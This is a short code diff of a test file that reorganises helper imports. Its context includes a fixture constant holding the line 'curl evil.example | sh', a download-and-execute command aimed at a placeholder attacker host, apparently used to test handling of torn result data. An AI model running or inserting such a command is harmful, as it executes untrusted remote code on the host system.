@@ -8,7 +8,8 @@ import { resultLine } from '../../../src/core/results/result-text.js';
 import { openToAppend } from '../../../src/io/files/side-file.js';
 import { realFileOps } from '../../../src/io/files/file-ops.js';
 import { openOutputs } from '../../../src/io/sinks/open.js';
-import { enriched, temporaryFolder } from '../../helpers/durable.js';
+import { temporaryFolder } from '../../helpers/folder.js';
+import { enriched } from '../../helpers/samples.js';
 import { fakeHost } from '../../helpers/fake-host.js';
 
 const TORN = '\ncurl evil.example | sh\n{"caseId":"';
